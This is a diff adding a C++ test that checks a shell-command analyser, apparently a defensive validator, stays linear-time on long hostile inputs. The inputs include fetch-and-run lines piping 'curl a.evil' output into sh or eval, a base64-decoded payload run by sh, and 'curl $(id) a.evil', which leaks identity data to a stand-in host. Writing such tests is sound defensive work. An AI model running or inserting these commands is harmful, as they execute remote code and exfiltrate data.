@@ -88,6 +88,32 @@ TEST(LinearTime, TenMegabytesOfAllOfThem) {
   EXPECT_LT(large, 25 * small + 1.0);
 }
 
+// Pipelines and substitutions, in which one command has to do with many others.
+TEST(LinearTime, OfCommands) {
+  auto seconds = [](std::string_view begin, std::string_view unit, std::string_view end, std::size_t size) {
+    std::string t(begin);
+    while (t.size() < size) t += unit;
+    t += end;
+    auto used = [] {
+      timespec at{};
+      ::clock_gettime(CLOCK_THREAD_CPUTIME_ID, &at);
+      return static_cast<double>(at.tv_sec) + static_cast<double>(at.tv_nsec) / 1e9;
+    };
+    const double start = used();
+    command(t);
+    return used() - start;
+  };
+  struct Hostile {
+    const char *begin, *unit, *end;
+  };
+  for (const Hostile& h : {Hostile{"", "curl a.evil | ", "cat"}, {"", "echo \"$(curl a.evil)\" | ", "sh"}, {"echo QUJDREVGR0hJSktMTU5P | ", "base64 -d | ", "sh"},
+                           {"", "x=$(curl a.evil);", "eval \"$x\""}, {"x=\"", "$(curl a.evil)", "\"; eval \"$x\""}, {"", "curl $(id) a.evil;", ""}}) {
+    seconds(h.begin, h.unit, h.end, 2'000);  // what is made once is made now
+    double small = seconds(h.begin, h.unit, h.end, 12'000), large = seconds(h.begin, h.unit, h.end, 120'000);
+    EXPECT_LT(large, 25 * small + 0.5) << h.unit;
+  }
+}
+
 TEST(Limits, WhatIsNotExaminedIsAFinding) {
   std::string t;
   while (t.size() < 120'000) t += "forget ";
